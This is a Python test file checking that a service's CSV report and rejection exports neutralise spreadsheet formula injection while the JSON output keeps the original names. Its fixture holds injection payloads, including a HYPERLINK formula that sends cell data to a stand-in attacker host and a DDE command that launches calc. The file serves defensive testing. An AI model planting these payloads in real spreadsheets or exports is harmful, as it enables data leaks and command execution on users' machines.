"""Every CSV export (both reports and a task's rejections) is safe to open in a spreadsheet; the JSON is unchanged."""

from __future__ import annotations

import csv
import io
from typing import Any

from tests.integration.test_task_api import run_queued

FORMULAS = {
    1: '=HYPERLINK("http://evil.example/?leak="&A1,"Details")',
    2: "+cmd|' /C calc'!A0",
    3: "-2+3",
    4: "@SUM(A1:A9)",
}


def csv_cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def load_departments_named_like_formulas(client: Any) -> None:
    departments = [{"id": i, "department": name} for i, name in FORMULAS.items()] + [{"id": 5, "department": "Sales"}]
    jobs = [{"id": 1, "job": "=1+1"}]
    employees = [
        {"id": n, "name": f"Employee {n}", "datetime": "2021-03-01T00:00:00Z", "department_id": 1 + n % 4, "job_id": 1}
        for n in range(1, 13)
    ]
    for path, rows in (("/departments", departments), ("/jobs", jobs), ("/hired-employees", employees)):
        response = client.post(path, json=rows)
        assert response.status_code == 200 and not response.json["rejected"], response.json


def test_report_csv_cells_that_start_like_formulas_are_neutralised_and_the_json_keeps_the_names(client):
    load_departments_named_like_formulas(client)

    quarters = client.get("/report/hired-by-quarter?year=2021").json["rows"]
    quarters_csv = csv_cells(client.get("/report/hired-by-quarter?year=2021&format=csv"))
    above = client.get("/report/hiring-above-average?year=2021").json["rows"]
    above_csv = csv_cells(client.get("/report/hiring-above-average?year=2021&format=csv"))

    assert {row["department"] for row in quarters} == set(FORMULAS.values())
    assert {row["job"] for row in quarters} == {"=1+1"}
    assert quarters_csv[0] == ["department", "job", "Q1", "Q2", "Q3", "Q4"]
    assert sorted(row[0] for row in quarters_csv[1:]) == sorted("'" + name for name in FORMULAS.values())
    assert {row[1] for row in quarters_csv[1:]} == {"'=1+1"}
    assert {row[2] for row in quarters_csv[1:]} == {"3"}  # the counts stay numbers
    assert {row["department"] for row in above} == set(FORMULAS.values())
    assert sorted(row[1] for row in above_csv[1:]) == sorted("'" + name for name in FORMULAS.values())


def test_rejections_csv_cells_that_start_like_formulas_are_neutralised_and_the_json_keeps_the_records(client, services):
    lines = ["=1+1,Formula", "-3,Negative", "@A1,At sign", "+7x,Plus", "\t=2+2,Tab", "10,Valid"]
    upload = io.BytesIO("\n".join(lines).encode() + b"\n")
    response = client.post("/upload-files", data={"departments": (upload, "departments.csv")})
    assert response.status_code == 202
    run_queued(services)
    location = response.headers["Location"]

    items = client.get(f"{location}/rejections").json["items"]
    downloaded = csv_cells(client.get(f"{location}/rejections?format=csv"))

    assert [item["record"] for item in items] == lines[:5]
    assert downloaded[0] == ["table", "source", "line", "batch", "record", "reasons"]
    assert [row[4] for row in downloaded[1:]] == ["'" + line for line in lines[:5]]
    assert [row[2] for row in downloaded[1:]] == ["1", "2", "3", "4", "5"]
